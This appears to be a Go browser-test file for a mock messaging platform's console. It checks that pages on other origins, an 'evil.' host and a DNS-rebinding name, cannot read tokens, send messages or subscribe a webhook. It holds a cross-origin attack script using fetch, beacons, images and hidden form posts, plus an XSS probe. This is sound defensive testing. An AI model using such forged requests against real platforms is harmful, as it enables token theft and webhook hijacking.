package console_test

import (
	"context"
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"github.com/seed-11445fa1/referee/mockplatform"
	"github.com/seed-11445fa1/referee/mockplatform/console"
	"github.com/seed-11445fa1/referee/mockplatform/journal"
)

// elsewhere is a site with one page, and the webhook that the page would like to be
// subscribed.
type elsewhere struct {
	*httptest.Server
	hooked atomic.Int64 // how often the platform came to the webhook
}

func openElsewhere(t *testing.T) *elsewhere {
	t.Helper()
	e := &elsewhere{}
	e.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/webhook" {
			e.hooked.Add(1)
			fmt.Fprint(w, r.URL.Query().Get("hub.challenge")) // whatever the token is
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<!doctype html><title>a page of somebody else</title><body>")
	}))
	t.Cleanup(e.Close)
	return e
}

// attack is a script of the page. It ends with what the page has read, and with nothing
// if the browser gave it nothing.
const attack = `(async (platform, webhook) => {
	const token = "access_token=%s";
	const got = [];
	const read = async (path, init) => {
		try {
			const text = await (await fetch(platform + path, init)).text();
			if (text) got.push(path + " " + text);
		} catch {} // the browser refuses
	};
	await read("/me?" + token);
	await read("/v23.0/1?" + token, { credentials: "include" });
	await read("/me", { headers: { Authorization: "Bearer %[1]s" } }); // which asks with OPTIONS before
	const message = JSON.stringify({ recipient: { id: "1" }, message: { text: "from a page" } });
	await read("/me/messages?" + token, { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: message });
	await read("/me/messages?" + token, { method: "POST", headers: { "Content-Type": "application/json" }, body: message });
	navigator.sendBeacon(platform + "/v22.0/me/messages?" + token, message);
	await read("/_referee/receipts", { method: "POST", mode: "no-cors", body: message });

	// What needs no permission of any kind: pictures, scripts, frames and forms.
	const loaded = (e) => new Promise((done) => { e.onload = e.onerror = done; document.body.append(e); });
	await loaded(Object.assign(new Image(), { src: platform + "/me/messages?method=post&" + token }));
	await loaded(Object.assign(document.createElement("script"), { src: platform + "/me?callback=f&" + token }));
	const send = (path, fields) => new Promise((done) => {
		const frame = Object.assign(document.createElement("iframe"), { name: "f" + document.querySelectorAll("iframe").length });
		document.body.append(frame);
		const form = Object.assign(document.createElement("form"), { method: "POST", action: platform + path, target: frame.name });
		for (const [name, value] of Object.entries(fields)) form.append(Object.assign(document.createElement("input"), { name, value }));
		document.body.append(form);
		frame.onload = () => {
			try { if (frame.contentDocument.URL === "about:blank") return; } catch {} // it is of the platform's origin then
			done();
		};
		form.submit();
	});
	await send("/me/messages", { access_token: "%[1]s", recipient: '{"id":"1"}', message: '{"text":"from a form"}' });
	await send("/%[2]s/subscriptions", { access_token: "%[2]s|%[3]s", object: "page", callback_url: webhook, verify_token: "t", fields: "messages,messaging_postbacks" });
	return got;
})(%[4]q, %[5]q)`

// TestAPageOfAnotherOrigin has pages that a developer may have open beside Referee: of
// another port, of another name of this machine, and one whose own name leads to the
// platform. None reads, writes or subscribes, and each is told of once.
func TestAPageOfAnotherOrigin(t *testing.T) {
	browser := browse(t)
	e := openElsewhere(t)
	port := e.URL[strings.LastIndex(e.URL, ":"):]
	for what, origin := range map[string]string{
		"another port":                 "http://127.0.0.1" + port,
		"another name of this machine": "http://localhost" + port,
		"another site":                 "http://evil." + resolved + port,
	} {
		t.Run(what, func(t *testing.T) {
			d := open(t, nil)
			before := d.platform.Receiver().URL
			page := visit(t, browser, origin+"/")
			script := fmt.Sprintf(attack, mockplatform.DefaultPageToken, mockplatform.DefaultAppID, mockplatform.DefaultAppSecret, d.platform.GraphURL(), e.URL+"/webhook")
			if got := run[[]string](t, page, script); len(got) > 0 {
				t.Errorf("the page reads %q", got)
			}
			d.untouched(t, before, e)
			told := d.platform.RefusedCalls()
			for _, path := range []string{"/me", "/v23.0/1", "/me/messages", "/" + mockplatform.DefaultAppID + "/subscriptions"} {
				if !strings.Contains(fmt.Sprint(told), " "+path+" ") {
					t.Errorf("nothing tells of %s: %+v", path, told)
				}
			}
		})
	}

	// A link leads a person to an answer; what stands in it is a refusal.
	t.Run("a link", func(t *testing.T) {
		d := open(t, nil)
		page := visit(t, browser, e.URL+"/")
		link := d.platform.GraphURL() + "/me?access_token=" + mockplatform.DefaultPageToken
		follow := fmt.Sprintf(`void (document.body.append(Object.assign(document.createElement("a"), { href: %q, innerText: "a present" })), document.querySelector("a").click())`, link)
		if _, err := chromedp.Run(page, chromedp.Evaluate[chromedp.Void](follow)); err != nil {
			t.Fatal(err)
		}
		// The page that goes away takes with it what looks at it.
		for refused := false; !refused; {
			refused, _ = chromedp.Run(page, chromedp.Poll[bool](`document.body?.innerText.includes("takes calls only from programs")`))
			if page.Err() != nil {
				t.Fatal("the link does not lead to a refusal")
			}
		}
		// The same, as a person types it, is for the person.
		typed := visit(t, browser, link)
		if text := run[string](t, typed, `document.body.innerText`); !strings.Contains(text, mockplatform.DefaultPageID) {
			t.Errorf("who types it sees %q", text)
		}
	})

	// The page has let its own name lead here, and is of the platform's origin now.
	t.Run("a name that leads to the platform", func(t *testing.T) {
		d := open(t, nil)
		before := d.platform.Receiver().URL
		rebound := strings.Replace(d.platform.GraphURL(), "127.0.0.1", "rebound."+resolved, 1)
		page := visit(t, browser, rebound+"/robots.txt")
		script := fmt.Sprintf(attack, mockplatform.DefaultPageToken, mockplatform.DefaultAppID, mockplatform.DefaultAppSecret, rebound, e.URL+"/webhook")
		for _, text := range run[[]string](t, page, script) {
			if !strings.Contains(text, "allow the name with --platform-host") {
				t.Errorf("the page reads %q", text)
			}
		}
		d.untouched(t, before, e)
	})
}

// TestAComebackWithAToken: the log-in page of a bot, on another site, leads back to a
// console that wants a token, although the browser keeps the cookie from what another site
// leads to.
func TestAComebackWithAToken(t *testing.T) {
	if testing.Short() {
		t.Skip("-short leaves out the browser")
	}
	browser := browse(t)
	const token = "a token & more"
	d := open(t, func(_ *mockplatform.Options, o *console.Options) { o.Token = token })
	if _, err := d.platform.AddPerson("Ada", "person"); err != nil {
		t.Fatal(err)
	}
	// A page on which somebody presses a link: a redirect would count as the console's own.
	shop := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		back := html.EscapeString(r.URL.Query().Get("redirect_uri") + "&authorization_code=c0de%26%22more")
		fmt.Fprintf(w, `<!doctype html><title>The shop</title><a href="%s">I am Ada</a>`, back)
	}))
	t.Cleanup(shop.Close)
	d.bot.answers = map[string]string{"login": `"message": {"attachment": {"type": "template", "payload": {"template_type": "button", "text": "Your account",
		"buttons": [{"type": "account_link", "url": "` + strings.Replace(shop.URL, "127.0.0.1", "localhost", 1) + `/login"}]}}}`}
	b := d.tab(t, browser, 1280, 800, "conversation/Ada", "light", true) // refused, without the token
	b.open(d.console.URL() + "?token=" + url.QueryEscape(token) + "#/conversation/Ada")
	b.write("#compose", "login"+kb.Enter)
	b.press("Log in")
	b.do("stay in this tab", chromedp.Evaluate[chromedp.Void](`document.querySelector("dialog a").removeAttribute("target")`))
	b.press("Open the log-in page")
	b.click("the link that leads back", `[...document.querySelectorAll("a")].find((e) => e.innerText === "I am Ada")`)
	// The page goes twice, and takes with it what looks at it.
	ctx, stop := context.WithTimeout(t.Context(), patience)
	defer stop()
	if _, err := d.platform.Journal().Wait(ctx, func(x journal.Exchange) bool { return slices.Contains(x.Variants, "account-linking.linked") }); err != nil {
		t.Fatalf("the account is not linked: %v", err)
	}
	b.sees(".middle", `The account is linked, with the code c0de&"more`)
	b.holds("the address keeps nothing of it", `location.search === ""`)

	for what, tt := range map[string]struct {
		method, path string
		status       int
	}{
		"a way back":                      {"GET", "?account_linking_token=x&authorization_code=y", 200},
		"the same, once more":             {"GET", "?account_linking_token=x&authorization_code=y&back=1", 401},
		"another page":                    {"GET", "?x=y", 401},
		"a file":                          {"GET", "app.js?account_linking_token=x", 401},
		"the API":                         {"GET", "api/v1/setup?account_linking_token=x", 401},
		"what is no way back but changes": {"POST", "?account_linking_token=x", 401},
	} {
		status, answer := d.raw(tt.method, tt.path, nil, nil)
		if status != tt.status {
			t.Errorf("%s: %d %s", what, status, answer)
		}
		if what == "a way back" && (strings.Contains(string(answer), "<script") || !strings.Contains(string(answer), `content="0;url=/?account_linking_token=x&amp;authorization_code=y&amp;back=1"`)) {
			t.Errorf("%s: %s", what, answer)
		}
	}
	if _, answer := d.raw("GET", `?account_linking_token="><script>alert(1)</script>`, nil, nil); strings.Contains(string(answer), "<script") {
		t.Errorf("what leads back is in the page: %s", answer)
	}
}

// untouched checks that no call had an effect, and that a program's same calls have.
func (d *desk) untouched(t *testing.T, before string, e *elsewhere) {
	t.Helper()
	// All but the beacon has come when the script is over.
	if _, err := d.platform.Journal().Wait(t.Context(), func(x journal.Exchange) bool { return strings.HasPrefix(x.Request.URL, "/v22.0/") && x.Settled() }); err != nil {
		t.Fatalf("the beacon: %v", err)
	}
	accepted := d.platform.Journal().Find(func(x journal.Exchange) bool {
		return x.Direction == journal.FromReceiver && (x.Kind != journal.Unknown || x.Response.Status != http.StatusForbidden)
	})
	for _, x := range accepted {
		t.Errorf("the platform answers %s %s with %d", x.Request.Method, x.Request.URL, x.Response.Status)
	}
	after := d.platform.Receiver().URL
	if e.hooked.Load() > 0 || after != before {
		t.Errorf("the receiver is %s, it was %s", after, before)
	}
	for path, form := range map[string]url.Values{
		"/me/messages": {"access_token": {mockplatform.DefaultPageToken}, "recipient": {`{"id":"1"}`}, "message": {`{"text":"from a program"}`}},
		"/" + mockplatform.DefaultAppID + "/subscriptions": {
			"access_token": {mockplatform.DefaultAppID + "|" + mockplatform.DefaultAppSecret}, "object": {"page"},
			"callback_url": {d.bot.url}, "verify_token": {mockplatform.DefaultVerifyToken}, "fields": {"messages,messaging_postbacks"},
		},
	} {
		answer, err := client().PostForm(d.platform.GraphURL()+path, form)
		if err != nil {
			t.Fatal(err)
		}
		answer.Body.Close()
		if answer.StatusCode != http.StatusOK {
			t.Errorf("a program's POST %s is answered %d: the page's proves nothing", path, answer.StatusCode)
		}
	}
}

// visit opens a page that is none of the console's.
func visit(t *testing.T, browser context.Context, url string) context.Context {
	t.Helper()
	page, cancel := chromedp.NewContext(browser)
	t.Cleanup(cancel)
	ctx, stop := context.WithTimeout(page, patience)
	t.Cleanup(stop)
	if err := chromedp.Do(ctx, chromedp.Navigate(url)); err != nil {
		t.Fatalf("open %s: %v", url, err)
	}
	return ctx
}

// run returns the value of an expression in a page.
func run[T any](t *testing.T, page context.Context, expression string) T {
	t.Helper()
	v, err := chromedp.Run(page, chromedp.Evaluate[T](expression, chromedp.EvalAwaitPromise))
	if err != nil {
		t.Fatal(err)
	}
	return v
}
